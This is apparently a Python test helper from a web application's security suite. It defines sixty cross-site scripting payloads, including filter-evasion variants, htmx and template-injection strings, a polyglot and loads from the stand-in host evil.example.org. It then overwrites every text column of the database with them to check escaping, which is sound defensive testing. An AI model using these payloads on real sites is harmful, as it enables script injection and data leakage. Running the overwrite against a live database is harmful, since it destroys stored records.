"""Sixty texts that try to run as a script, and the places where people's words are kept (S5)."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

import sqlalchemy as sa
from sqlalchemy.exc import IntegrityError
from sqlalchemy.orm import Session

from campaigns import holdings
from campaigns.holdings import Nature
from campaigns.models import Base

# One that ran would call this function, open a dialog, or ask another machine for something.
RAN = "hostile"
_BARE = f"{RAN}()"
_AWAY = "//evil.example.org"
PAYLOADS = (
    # A whole element
    f"<script>{_BARE}</script>",
    f"<ScRiPt>{_BARE}</sCrIpT>",
    f"<script/x>{_BARE}</script>",
    f"<script\n>{_BARE}</script\n>",
    f"<scr<script>ipt>{_BARE}</scr</script>ipt>",
    f"<script src={_AWAY}/x.js></script>",
    f"<script type=module>import '{_AWAY}/x.js'</script>",
    f"<img src=x onerror={_BARE}>",
    "<img src=x onerror=&#104;ostile()>",
    f"<img/src=x/onerror={_BARE}>",
    f"<IMG \"\"\"><img src=x onerror={_BARE}>\">",
    f"<img src={_AWAY}/pixel.png>",
    f"<img srcset='{_AWAY}/pixel.png 1x'>",
    f"<svg onload={_BARE}>",
    f"<svg/onload={_BARE}//",
    f"<svg><script>{_BARE}</script></svg>",
    f"<svg><animate onbegin={_BARE} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_BARE}><text y=9>x</text></a></svg>",
    f"<math><mtext></p><img src=x onerror={_BARE}></mtext></math>",
    f"<body onload={_BARE}>",
    f"<video><source onerror={_BARE}></video>",
    f"<audio src=x onerror={_BARE}>",
    f"<details open ontoggle={_BARE}>x</details>",
    f"<input onfocus={_BARE} autofocus>",
    f"<select onfocus={_BARE} autofocus></select>",
    f"<textarea onfocus={_BARE} autofocus></textarea>",
    f"<marquee onstart={_BARE}>x</marquee>",
    f"<iframe src=javascript:{_BARE}></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.{_BARE}&lt;/script&gt;'></iframe>",
    f"<object data=javascript:{_BARE}></object>",
    f"<embed src={_AWAY}/x.swf>",
    f"<base href={_AWAY}/>",
    f"<link rel=stylesheet href={_AWAY}/x.css>",
    f"<style>@import '{_AWAY}/x.css'</style>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}/'>",
    f"<form action={_AWAY}/><button autofocus>x</button></form>",
    f"<a href=javascript:{_BARE}>x</a>",
    f"<a href='java\tscript:{_BARE}'>x</a>",
    f"<a href='data:text/html,<script>{_BARE}</script>'>x</a>",
    # Out of an attribute, an element, a comment, a script
    f'"><script>{_BARE}</script>',
    f"'><script>{_BARE}</script>",
    f'" onmouseover={_BARE} autofocus onfocus={_BARE} x="',
    f"' onfocus={_BARE} autofocus x='",
    f" onfocus={_BARE} autofocus x",
    f"`onfocus={_BARE} autofocus",
    f"</title><script>{_BARE}</script>",
    f"</textarea><img src=x onerror={_BARE}>",
    f"</select><img src=x onerror={_BARE}>",
    f"</script><script>{_BARE}</script>",
    f"--><script>{_BARE}</script><!--",
    f"<!--><img src=x onerror={_BARE}>-->",
    f"]]><script>{_BARE}</script>",
    f"';{_BARE};'",
    f'";{_BARE};//',
    f"\\u003cimg src=x onerror={_BARE}\\u003e",
    # What our own scripts and templates read
    f"<div hx-get={_AWAY}/ hx-trigger=load>x</div>",
    f"<div hx-on:htmx:load={_BARE} hx-get=/connexion hx-trigger=load>x</div>",
    f"[x](javascript:{_BARE}) ![x]({_AWAY}/pixel.png) <javascript:{_BARE}>",
    f"${{{_BARE}}}{{{{constructor.constructor('{_BARE}')()}}}}",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={_BARE} )//%0D%0A//</stYle/</titLe/</teXtarEa/"
    f"</scRipt/--!>\\x3csVg/<sVg/oNloAd={_BARE}//>\\x3e",
)  # fmt: skip

# Personal, and not typed as words: their shape is checked, or they are keys.
_SHAPED = {
    "person.email", "person.name_key", "person.postal_code", "person.schemes", "phone.e164",
    "user_account.email", "user_account.home_insee", "outgoing_mail.to_address",
    "match_choice.row_key", "call_suggestion.phone",
}  # fmt: skip
# Facts that somebody of the team types in words.
_NAMES = {
    "campaign.name", "campaign.purpose", "campaign.legal_basis", "organisation.name",
    "organisation.of_name", "organisation.territory_word", "organisation.on_call_hours",
    "organisation.dpo_contact", "source_list.name", "source_list.purpose", "source_list.legal_basis",
    "territory.name", "commune.name", "office.name", "office.note", "office.hours",
    "guide_version.note", "need_form.filename", "left_out.reason", "line.moved_why",
    "route_table.note", "provenance.source", "referral.name", "outgoing_mail.last_reply",
}  # fmt: skip
# Filled, they would say something else than words: kept aside, refused.
_ONLY_FULL = {"person.hold", "person.guardian"}


def places() -> list[sa.Column[str]]:
    """Every column that holds words of people, those of the register of holdings."""
    found = []
    for table in Base.metadata.sorted_tables:
        for column in table.columns:
            if not isinstance(column.type, sa.String):
                continue
            name = f"{table.name}.{column.name}"
            nature = holdings.nature(table.name, column.name)
            is_words = nature in {Nature.WORDS, Nature.PERSONAL} and name not in _SHAPED
            if is_words or name in _NAMES:
                found.append(column)
    return found


def sow(session: Session) -> int:
    """Put the payloads in every place, each row and column the next one; give how many were put."""
    turn: Iterator[str] = itertools.cycle(PAYLOADS)
    count = 0
    for column in places():
        table = column.table
        keys = list(table.primary_key.columns)
        rows = session.execute(sa.select(*keys, column).limit(400)).all()
        for *key, now in rows:
            if not now and f"{table.name}.{column.name}" in _ONLY_FULL:
                continue
            same = sa.and_(*(one == value for one, value in zip(keys, key, strict=True)))
            try:
                with session.begin_nested():
                    session.execute(sa.update(table).where(same).values({column.name: next(turn)}))
            except IntegrityError:
                continue  # words of an end that has not come: the table wants none yet
            count += 1
    return count
